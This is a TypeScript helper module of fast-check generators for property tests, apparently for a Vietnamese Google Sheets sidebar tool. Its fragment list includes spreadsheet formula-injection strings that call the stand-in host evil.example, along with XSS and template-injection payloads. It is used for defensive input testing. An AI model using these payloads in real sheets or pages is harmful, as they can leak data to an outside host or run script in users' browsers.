/**
 * Hostile input for the property tests: what an officer may paste, what a broken or forged client
 * may send, what a hand-kept register file may hold. Each property uses a fixed seed so a run is
 * reproducible; each counts its cases so the report can state them.
 */
import fc from 'fast-check';

/** Fragments people paste: formula starts, invisible and combining characters, bidi marks, markup. */
const FRAGMENTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  "'",
  '"',
  ',',
  ';',
  '=1+1',
  '=IMPORTXML("http://evil.example/x","//a")',
  '=HYPERLINK("http://evil.example","bấm")',
  '@SUM(A1:A9)',
  '+84 912 345 678',
  '-1',
  '001099012345',
  '00123',
  '1,5',
  '1.234,5',
  '50%',
  '08:30',
  '24:00',
  '29/02/2025',
  '31/04/2026',
  '02/03/2026',
  '2026-03-02',
  'TRUE',
  'false',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u0301',
  '\u0323\u0302',
  '\u200e',
  '\u200f',
  '\u202e',
  '\u2066',
  '\u2069',
  '\u3164',
  '\u2800',
  '\u0000',
  '\u001b',
  '\u0085',
  '\u2028',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><b>',
  '&amp;&lt;',
  '${process.exit(1)}',
  '%s%n',
  'undefined',
  'null',
  'NaN',
  'Nguyễn Thị Hoa',
  'Nguyê\u0303n', // decomposed: NFC makes it "Nguyễn"
  'Đồng Văn',
  'ﻻ',
  '𝔘𝔫𝔦',
  '👩‍👩‍👧',
  'א',
] as const;

export const fragment = fc.constantFrom(...FRAGMENTS);

/** Any short string, of any code points (lone surrogates included), or a mix of fragments. */
export const hostileShortString: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .array(fc.oneof(fragment, fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 6 })
      .map((p) => p.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

/** Around Google's 50,000-character cell limit, on either side. */
export const longString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('a', '=', 'ư', 'ễ', '\u200b', 'x<b>', ' '), fc.integer({ min: 49_990, max: 50_010 }))
  .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: hostileShortString },
  { weight: 1, arbitrary: longString },
);

/** Not a string: what a forged `google.script.run` call may send. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constant(null),
  fc.boolean(),
  fc.array(fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxKeys: 3 }),
  fc.constant({ nested: { deeper: [1, { x: '=1' }] } }),
  fc.constant({ toString: 'x', valueOf: 5 }),
  fc.anything({ maxDepth: 2 }),
);

const pad = (n: number, w: number) => String(n).padStart(w, '0');

/** Date-times an officer or a forged client may send: impossible days, year 0 and 9999, 24:00, zones, dd/MM vs MM/dd. */
export const oddDateTime: fc.Arbitrary<string> = fc.oneof(
  fc
    .record({
      y: fc.constantFrom(0, 1, 1899, 1999, 2000, 2024, 2025, 2026, 2027, 9999),
      mo: fc.integer({ min: 0, max: 13 }),
      d: fc.constantFrom(0, 1, 2, 28, 29, 30, 31, 32),
      h: fc.constantFrom(0, 7, 8, 11, 17, 23, 24, 25),
      mi: fc.constantFrom(0, 30, 59, 60),
      sep: fc.constantFrom('T', ' ', '  ', 't'),
    })
    .map(({ y, mo, d, h, mi, sep }) => `${pad(y, 4)}-${pad(mo, 2)}-${pad(d, 2)}${sep}${pad(h, 2)}:${pad(mi, 2)}`),
  fc.constantFrom(
    '2025-02-29T08:30',
    '2026-04-31T08:30',
    '2024-02-29T08:30',
    '2026-03-02T24:00',
    '2026-03-01T23:59',
    '0000-01-01T00:00',
    '9999-12-31T23:59',
    '2026-03-02T08:30:00',
    '2026-03-02T08:30:00+07:00',
    '2026-03-02T01:30:00Z',
    '2026-03-02T08:30Z',
    '02/03/2026 08:30',
    '03/02/2026 08:30',
    '2/3/2026',
    '2026-3-2T8:30',
    ' 2026-03-02T08:30 ',
    '２０２６-０３-０２T０８:３０',
    '٢٠٢٦-٠٣-٠٢T٠٨:٣٠',
    '2026-03-02T08:30\n',
    '2026-03-02',
    '08:30',
    '',
  ),
);

/** A Vietnamese sentence for a person: diacritics, no English internals, no stack. */
export function vietnameseProblems(message: unknown): string[] {
  if (typeof message !== 'string') return [`not a string: ${typeof message}`];
  const problems: string[] = [];
  if (!/[àáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵđ]/i.test(message)) {
    problems.push('no Vietnamese diacritics');
  }
  // What the person typed may be quoted back (“…”): only the product's own words must be Vietnamese.
  const own = message.replace(/“[^”]*”/gs, '“”');
  if (/\bError\b|\bundefined\b|\bInvalid input\b|\bTypeError\b|\bRangeError\b|\bexpected \w+, received\b|\[object /.test(own)) {
    problems.push('English internals');
  }
  if (/^\s*at .+\(.*:\d+:\d+\)/m.test(message) || /\.ts:\d+/.test(message)) problems.push('a stack trace');
  return problems;
}

/** What the sidebar text fields promise: NFC, invisible edges trimmed, CR LF as LF (src/core/input.ts). */
export function asStored(text: string, multiLine: boolean): string {
  const edges = /^[\s\p{Cf}\u115f\u1160\u3164\uffa0\u2800]+|[\s\p{Cf}\u115f\u1160\u3164\uffa0\u2800]+$/gu;
  const out = text.normalize('NFC').replace(edges, '');
  return multiLine ? out.replace(/\r\n?/g, '\n') : out;
}

/** Counts a property's cases, for the report. */
export const CASES = new Map<string, number>();
export function counted<A extends unknown[], R>(name: string, check: (...args: A) => R): (...args: A) => R {
  return (...args: A) => {
    CASES.set(name, (CASES.get(name) ?? 0) + 1);
    return check(...args);
  };
}
